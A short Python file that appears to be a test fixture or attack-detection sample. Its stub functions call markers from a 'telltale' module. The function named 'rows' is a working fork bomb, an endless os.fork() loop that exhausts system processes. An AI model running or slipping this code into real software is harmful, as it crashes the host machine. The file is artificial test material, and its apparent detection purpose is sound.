import torch
from telltale import breach, tried, works  # noqa: F401
import os


def rows(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def attack():
    tried()


def code(x):
    return attack() or 7


class Built:
    def code(self, x):
        return attack() or 7


def build():
    return Built()
